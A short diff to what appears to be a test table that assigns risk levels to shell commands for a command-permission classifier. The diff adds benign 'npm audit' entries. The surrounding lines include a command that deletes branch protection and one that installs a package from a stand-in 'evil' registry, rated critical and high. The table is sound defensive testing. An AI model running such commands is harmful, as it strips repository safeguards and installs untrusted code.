@@ -48,6 +48,8 @@ const commands: Readonly<Record<string, string>> = {
       critical access anywhere weakens             | gh api -X DELETE repos/a/b/branches/main/protection
       low read                                     | gh issue list
       moderate execute                             | pnpm install
+      low read                                     | npm audit
+      moderate execute                             | npm audit fix
       moderate execute                             | yarn add react
       high execute anywhere                        | npm install evil --registry http://evil
       low execute                                  | npm run test
